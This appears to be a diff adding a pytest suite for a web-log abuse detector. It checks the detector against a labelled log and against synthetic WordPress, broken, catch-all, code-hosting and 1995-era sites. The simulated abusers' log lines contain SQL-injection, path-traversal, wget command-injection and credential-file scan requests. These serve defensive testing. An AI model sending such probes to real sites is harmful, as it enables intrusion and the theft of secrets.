@@ -1,0 +1,216 @@
+"""Who is a suspect on a real log, by hand-made labels, and on other kinds of sites, by what their visitors do."""
+
+from __future__ import annotations
+
+import csv
+import random
+from collections.abc import Iterator
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+pytestmark = [pytest.mark.spark, pytest.mark.slow]
+
+LABELS = {row["address"]: row["label"] for row in csv.DictReader((Path(__file__).parent / "labels.csv").open())}
+NOON = datetime(2024, 3, 4, 12, tzinfo=UTC)
+
+
+@pytest.fixture(scope="module")
+def found(shipped: Any) -> dict[str, Any]:
+    """The suspects of the shipped log."""
+    from workers.api_requests import parse, spam
+
+    return {one.address: one for one in spam.suspects(parse.requests(shipped).select(*spam.EVIDENCE))}
+
+
+def test_every_suspect_of_the_shipped_log_is_labelled_an_abuser(found: dict[str, Any]) -> None:
+    assert {address for address in found if LABELS.get(address, "ordinary") != "abuse"} == set()
+
+
+def test_three_of_four_abusers_of_the_shipped_log_are_found(found: dict[str, Any]) -> None:
+    abusers = {address for address, label in LABELS.items() if label == "abuse"}
+    assert len(abusers & found.keys()) / len(abusers) >= 0.75
+
+
+def test_the_busiest_is_left_in_peace(found: dict[str, Any]) -> None:
+    assert "148.87.179.6" not in found
+
+
+def test_the_sweep_of_six_minutes_is_found_with_its_figures(found: dict[str, Any]) -> None:
+    sweep = found["152.91.93.52"]
+    assert (sweep.requests, sweep.first_seen) == (429, datetime(2024, 5, 16, 18, 13, 56, tzinfo=UTC))
+    assert any("428 of 429 requests failed within 6 minutes" in reason for reason in sweep.reasons)
+
+
+def test_one_who_worked_through_part_of_a_sweeps_list_is_found(found: dict[str, Any]) -> None:
+    assert "other suspects" in " ".join(found["144.216.116.42"].reasons)
+
+
+class Site:
+    """A log in the making: ``visit(address, [...])`` with requests like "GET /a 200", so many seconds apart."""
+
+    def __init__(self) -> None:
+        self.rows: list[tuple[str, datetime, str, str, str, int]] = []
+        self.abusers: set[str] = set()
+
+    def visit(self, address: str, requests: list[str], *, every: float = 2.0, start: float = 0.0) -> None:
+        for number, request in enumerate(requests):
+            method, _, rest = request.partition(" ")
+            target, _, status = rest.rpartition(" ")
+            path, _, query = target.partition("?")
+            self.rows.append((address, NOON + timedelta(seconds=start + every * number), method, path, query, int(status)))
+
+    def abuse(self, address: str, requests: list[str], **when: float) -> None:
+        self.abusers.add(address)
+        self.visit(address, requests, **when)
+
+    def suspects(self, spark: Any) -> set[str]:
+        from workers.api_requests import spam
+
+        frame = spark.createDataFrame(
+            self.rows, "address string, time timestamp, method string, path string, query string, status int"
+        )
+        return {one.address for one in spam.suspects(frame)}
+
+
+def readers(site: Site, pages: list[str], count: int = 20) -> None:
+    """People who read a few pages, with what their browsers ask for by themselves."""
+    chance = random.Random(1)
+    for n in range(count):
+        mine = [f"GET {page} 200" for page in chance.choices(pages, k=6)]
+        by_themselves = ["GET /favicon.ico 404", "GET /apple-touch-icon.png 404", "GET /robots.txt 404"]
+        site.visit(f"10.1.0.{n}", mine + by_themselves[: n % 4])
+
+
+def words(count: int) -> Iterator[str]:
+    chance = random.Random(2)
+    for _ in range(count):
+        yield "".join(chance.choices("abcdefghijklmnopqrstuvwxyz", k=7))
+
+
+def test_a_wordpress_site(spark: Any) -> None:
+    site = Site()
+    readers(site, ["/", "/2024/01/hello/", "/about/", "/contact/", "/wp-content/uploads/a.jpg", "/wp-includes/js/jquery.js"])
+    login = ["GET /wp-login.php 200", "POST /wp-login.php 200", "POST /wp-login.php 200", "POST /wp-login.php 302"]
+    for n in range(4):
+        site.visit(
+            f"10.2.0.{n}",
+            [*login, "GET /wp-admin/ 200", "GET /wp-admin/post.php?post=7 200", "POST /wp-admin/admin-ajax.php 200"] * 3,
+        )
+    site.visit("10.2.1.1", ["POST /xmlrpc.php?for=jetpack 200"] * 400, every=1)
+    site.visit("10.2.1.2", ["POST /xmlrpc.php 200"] * 30 + ["GET /wp-json/wp/v2/posts 200"] * 5)  # a phone's editor
+    site.visit("10.2.1.3", ["POST /wp-cron.php?doing_wp_cron=1 200"] * 500, every=60)  # the site itself
+    site.visit("10.2.1.4", ["GET /robots.txt 200", *(f"GET /tag/{word}/ 404" for word in words(90)), "GET /about/ 200"], every=20)
+    site.visit(
+        "10.2.1.5", ["GET /wp-admin 301", "GET /wp-admin/ 302", "GET /wp-login.php?redirect_to=x 200"]
+    )  # and thought better of it
+    site.visit("10.2.1.6", ["POST /wp-comments-post.php 302", "POST /wp-comments-post.php 409"] * 3)
+    site.abuse("66.0.0.1", ["POST /wp-login.php 200"] * 300, every=1)
+    site.abuse(
+        "66.0.0.2", [f"GET /{folder}/wp-includes/wlwmanifest.xml 404" for folder in ("blog", "web", "site", "cms", "test", "wp")]
+    )
+    site.abuse("66.0.0.3", ["GET /wp-config.php.bak 404", "GET /.env 403", "GET /wp-content/uploads/shell.php 404"])
+    site.abuse("66.0.0.4", ["POST /xmlrpc.php 200"] * 500, every=0.5)
+    assert site.suspects(spark) == site.abusers
+
+
+def test_a_site_that_moved_and_broke_much(spark: Any) -> None:
+    site = Site()
+    readers(site, ["/", "/docs/", "/docs/install", "/blog/one", "/blog/two"])
+    site.visit("10.3.0.1", ["GET /gallery 200", *(f"GET /img/{word}.jpg 404" for word in words(120))], every=0.1)
+    site.visit(
+        "10.3.0.2", ["GET /robots.txt 200", *(f"GET /{word}.html 404" for word in words(140))], every=4
+    )  # a crawler's old list
+    site.visit("10.3.0.3", [f"GET /tiles/9/{x}/{y}.png 404" for x in range(20) for y in range(20)], every=0.2)
+    site.visit("10.3.0.4", [f"GET /api/items/{n} 404" for n in range(600)], every=0.5)
+    site.visit("10.3.0.5", ["GET /old/bookmark.html 404"] * 500, every=30)
+    site.visit("10.3.0.6", ["GET /api/v1/status 500"] * 900, every=1)
+    site.visit("10.3.0.7", ["POST /api/login 401"] * 900, every=1)
+    site.visit("10.3.0.8", ["GET /api/search?q=a 404", "GET /api/search?q=b 404", "GET /api/search?q=c 200"] * 300)
+    site.visit("10.3.0.9", ["HEAD / 503", "GET /health 404", "GET /server-status 403"] * 500, every=60)  # monitoring
+    site.visit(
+        "10.3.1.0", ["GET /docs/ 200", "GET /blog/one 200", "GET /docs/install 200", "GET /blog/two 404"] * 1500, every=0.3
+    )  # a NAT
+    site.visit("10.3.1.0", ["GET /.env 404", "GET /wp-login.php 404"], start=60)  # with somebody curious behind it
+    site.visit(
+        "10.3.1.1",
+        ["POST /autodiscover/autodiscover.xml 404", "GET /Autodiscover/Autodiscover.xml 404", "GET /ews/exchange.asmx 404"],
+    )
+    site.visit(
+        "10.3.1.2", ["POST /xmlrpc.php 404", "GET /wp-login.php 404", "GET /wp-admin/ 404"]
+    )  # a phone that knew the old site
+    site.visit("10.3.1.3", ["GET /phpmyadmin/ 404", "GET /pma/ 404", "GET /phpMyAdmin/ 404"])  # the owner, guessing
+    site.visit("10.3.1.4", ["PROPFIND /share 405", "GET /share/.DS_Store 404", "GET /share/._.DS_Store 404"] * 20)
+    site.visit("10.3.1.5", ["GET / 499"] * 60 + ["GET /docs/ 408"] * 20)
+    site.visit("10.3.1.6", ["GET /docs/?q=how+to+select+a+union 200", "GET /docs/?q='or+1=1 200", "GET /docs/ 200", "GET / 200"])
+    site.visit("10.3.1.7", ["GET /owa/auth/logon.aspx 404"])
+    site.visit(
+        "10.3.1.8", ["GET / 200", "GET /admin 404", "GET /login 404", "GET /wp-admin 404", "GET /administrator 404"]
+    )  # how to log in?
+    site.abuse("66.0.1.1", [f"GET /{word} 404" for word in words(300)], every=0.5)
+    site.abuse("66.0.1.2", [f"GET /docs/?id=1'+union+select+{n},2,3--+ 200" for n in range(30)])
+    site.abuse("66.0.1.3", ["GET /cgi-bin/%2e%2e/%2e%2e/%2e%2e/etc/passwd 400", "GET /download?file=../../../../etc/passwd 404"])
+    site.abuse("66.0.1.4", ["GET /.git/config 404", "GET / 200", "GET /.env 404"], every=86_400)
+    site.abuse(
+        "66.0.1.5",
+        ["GET / 200", "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php 404", "GET /shell?cd+/tmp;wget+http://x 404"],
+    )
+    site.abuse(
+        "66.0.1.7",
+        [f"GET {path} 404" for path in ("/pma/", "/phpmyadmin/", "/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/.env")],
+    )
+    guesses = ["admin", "backup", "backups", "test", "old", "dev", "tmp", "upload", "uploads", "logs", "secret", "internal"]
+    site.abuse("66.0.1.8", ["GET / 200", "GET /docs/ 200", *(f"GET /{name} 404" for name in guesses)], every=0.5)
+    site.abuse("66.0.1.6", ["GET /solr/admin/ 404", "GET /manager/html 404", "GET /owa/ 404", "GET /remote/login 404"])
+    assert site.suspects(spark) == site.abusers
+
+
+def test_a_site_that_answers_every_path_with_its_one_page(spark: Any) -> None:
+    site = Site()
+    readers(site, ["/", "/app", "/settings", "/.env-guide", "/wp-login.php"])
+    site.visit("10.4.0.1", ["GET /wp-login.php 200"])
+    site.visit("10.4.0.2", ["GET /.env 200"])
+    secrets = ("/.env", "/.env.bak", "/.git/config", "/.aws/credentials", "/id_rsa", "/backup.sql", "/_profiler/phpinfo")
+    site.abuse("66.0.2.1", [f"GET {path} 200" for path in secrets])
+    assert site.suspects(spark) == site.abusers
+
+
+def test_a_site_that_shows_code(spark: Any) -> None:
+    site = Site()
+    readers(site, ["/", "/me/app", "/me/app/blob/main/.env", "/me/app/blob/main/.git/config", "/me/app/raw/main/wp-config.php"])
+    site.visit("10.5.0.1", ["GET /me/app/blob/main/.env 200"])
+    site.visit(
+        "10.5.0.2",
+        ["GET /me/app.git/info/refs 200", "GET /me/app.git/HEAD 200", *(f"GET /me/app.git/objects/{w} 404" for w in words(40))],
+    )
+    site.visit("10.5.0.3", ["GET /me/app/blob/dev/.env 404", "GET /me/app 200", "GET / 200"])
+    site.visit("10.5.0.4", ["GET /search?q=union+select+1 200", "GET /search?q=<script>alert(1)</script> 200", "GET /me/app 200"])
+    site.abuse("66.0.3.1", ["GET /.env 404"])
+    assert site.suspects(spark) == site.abusers
+
+
+def test_a_site_of_1995(spark: Any) -> None:
+    site = Site()
+    readers(site, ["/", "/shuttle/missions/", "/images/logo.gif", "/history/history.html"])
+    for n in range(6):
+        site.visit(
+            f"pc{n}.isp.example",
+            [f"GET /cgi-bin/imagemap/countdown?{n},176 302", "GET /cgi-bin/geturlstats.pl 404", "GET /history/ 200"],
+        )
+    site.visit(
+        "pc9.isp.example",
+        ["GET /shuttle/../../images/a.gif 404", "GET /pub/winvn/readme.txt 404", "GET /cgi-bin/missing 404"] * 8,
+    )
+    assert site.suspects(spark) == set()
+
+
+def test_nothing_to_judge(spark: Any) -> None:
+    assert Site().suspects(spark) == set()
+
+
+def test_the_user_agent_is_not_even_looked_at() -> None:
+    from workers.api_requests import spam
+
+    assert "agent" not in spam.EVIDENCE
